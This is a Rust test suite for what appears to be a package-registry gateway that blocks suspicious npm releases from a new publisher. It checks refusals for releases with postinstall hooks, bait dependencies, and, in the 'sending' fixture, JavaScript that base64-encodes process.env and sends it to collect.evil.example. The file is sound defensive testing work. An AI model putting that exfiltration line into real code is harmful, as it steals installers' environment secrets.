//! The second release of an attack, asked for from a weir that has not seen the first: what nobody has looked at excuses
//! nothing that it would be refused for, whichever is asked for first.

use jiff::{SignedDuration, Timestamp};
use serde_json::Value;
use weir_testing::{Package, Registry, Release};

use crate::excuses::{asked, before, package};
use crate::support::{NOW, NPM, World};

/// So many hours before now.
pub(crate) fn ago(hours: i64) -> Timestamp {
    let now: Timestamp = NOW.parse().unwrap();
    now - SignedDuration::from_hours(hours)
}

pub(crate) fn by(publisher: &str, version: &str, hours: i64) -> Release {
    Release::new(version)
        .published_at(ago(hours))
        .publisher(publisher)
}

/// A step at install time that nothing but the account speaks against.
pub(crate) fn hooked(version: &str, hours: i64) -> Release {
    by("eve", version, hours)
        .file("x.js", "console.log('built');\n")
        .script("postinstall", "node x.js")
}

/// Brings a package that is a day younger, of another account, and runs something at install time.
fn baited(version: &str, hours: i64) -> Release {
    by("eve", version, hours).dependency("bait-hook", "^1.0.0")
}

/// Sends the environment where it is loaded: only the contents tell.
fn sending(version: &str, hours: i64) -> Release {
    let code = "require('https').get('https://collect.evil.example/x?' + \
        Buffer.from(JSON.stringify(process.env)).toString('base64'));\nmodule.exports = 1;\n";
    by("eve", version, hours).file("index.js", code)
}

fn registry(since: Vec<Release>) -> Registry {
    let registry = before(package("ledger-copy", since));
    let bait = Release::new("1.0.0")
        .published_at(ago(21 * 24))
        .publisher("rolf")
        .file("x.js", "console.log('built');\n")
        .script("postinstall", "node x.js");
    registry.add(
        Package::new("bait-hook")
            .maintainer("rolf")
            .releases([bait]),
    );
    registry
}

pub(crate) const DAY: i64 = 24;

fn nightlies(count: i64) -> impl Iterator<Item = Release> {
    (0..count).map(|number| {
        by(
            "mara",
            &format!("0.0.0-nightly.{number}"),
            29 * DAY - number * 7,
        )
    })
}

#[test]
fn the_second_release_is_refused_whatever_was_asked_for_before() {
    let flood = (0..62).map(|number| hooked(&format!("1.10.{number}"), 60 * DAY - number * 19));
    let gap = [hooked("1.10.0", 30 * DAY)]
        .into_iter()
        .chain(nightlies(70));
    for (what, since, first, last) in [
        (
            "weeks apart",
            vec![hooked("1.10.0", 20 * DAY), hooked("1.10.1", 3 * DAY)],
            "1.10.0",
            "1.10.1",
        ),
        (
            "at one time",
            vec![hooked("1.10.0", 20 * DAY), hooked("1.10.1", 20 * DAY)],
            "1.10.0",
            "1.10.1",
        ),
        (
            "three months apart",
            vec![hooked("1.10.0", 91 * DAY), hooked("1.10.1", 3 * DAY)],
            "1.10.0",
            "1.10.1",
        ),
        (
            "with nightlies between",
            gap.chain([hooked("1.10.1", 3 * DAY)]).collect(),
            "1.10.0",
            "1.10.1",
        ),
        ("of many", flood.collect(), "1.10.0", "1.10.61"),
        (
            "for what it depends on",
            vec![baited("1.10.0", 20 * DAY), baited("1.10.1", 3 * DAY)],
            "1.10.0",
            "1.10.1",
        ),
        (
            "for its code",
            vec![sending("1.10.0", 20 * DAY), sending("1.10.1", 3 * DAY)],
            "1.10.0",
            "1.10.1",
        ),
    ] {
        let registry = registry(since);
        for order in [&[last][..], &[first, last]] {
            let world = World::new();
            let gateway = world.serve(&registry);
            for version in order {
                let (status, _) = asked(&gateway, version);
                assert_eq!(status, 403, "{what}: {version} of {order:?}");
            }
        }
        let world = World::new();
        let gateway = world.serve(&registry);
        let document = gateway.packument(NPM, "ledger-copy");
        assert_eq!(document["dist-tags"]["latest"], "1.9.0", "{what}");
        assert_eq!(asked(&gateway, last).0, 403, "{what}");
    }
}

/// Whoever took over a package long ago is at home there, though nobody has looked at what they published since.
#[test]
fn what_came_long_before_is_the_past_of_a_package() {
    let months = (0..10).map(|month| hooked(&format!("1.10.{month}"), (300 - 30 * month) * DAY));
    let registry = registry(months.chain([hooked("1.10.10", 3 * DAY)]).collect());
    let world = World::new();
    let gateway = world.serve(&registry);
    assert_eq!(asked(&gateway, "1.10.10").0, 200);
    let world = World::new();
    let gateway = world.serve(&registry);
    let document = gateway.packument(NPM, "ledger-copy");
    assert_eq!(document["dist-tags"]["latest"], "1.10.10");
    assert_eq!(asked(&gateway, "1.10.10").0, 200);
}

/// Back to how the package was long ago is a change all the same.
#[test]
fn what_was_usual_long_ago_is_no_excuse() {
    let mut since: Vec<Release> = (0..10)
        .map(|month| by("ana", &format!("1.10.{month}"), (330 - 30 * month) * DAY))
        .collect();
    since.extend([hooked("1.11.0", 20 * DAY), hooked("1.11.1", 3 * DAY)]);
    let old = (0..3).map(|number| hooked(&format!("1.0.{number}"), (900 - number) * DAY));
    let package = Package::new("ledger-copy").maintainer("ana");
    let registry = before(package.releases(old).releases(since));
    for order in [
        &["1.11.1"][..],
        &["1.11.0", "1.11.1"],
        &["1.11.1", "1.11.0"],
    ] {
        let world = World::new();
        let gateway = world.serve(&registry);
        for version in order {
            assert_eq!(asked(&gateway, version).0, 403, "{version} of {order:?}");
        }
    }
}

/// Somebody new who changes nothing is worth a notice, and so is a step of the usual account.
#[test]
fn what_is_worth_a_notice_excuses() {
    let step = |version: &str, hours: i64| {
        by("mara", version, hours)
            .file("x.js", "console.log('built');\n")
            .script("postinstall", "node x.js")
    };
    for since in [
        vec![by("eve", "1.10.0", 20 * DAY), by("eve", "1.10.1", 3 * DAY)],
        vec![step("1.10.0", 20 * DAY), step("1.10.1", 3 * DAY)],
    ] {
        let registry = registry(since);
        let world = World::new();
        let gateway = world.serve(&registry);
        assert_eq!(asked(&gateway, "1.10.1").0, 200);
        let inspected = World::new();
        let told = inspected.run_before(&registry, &["inspect", "ledger-copy@1.10.1", "--json"]);
        let told: Value = serde_json::from_str(&told.stdout).unwrap();
        assert_ne!(told["decision"]["action"], "hold", "{told}");
    }
}
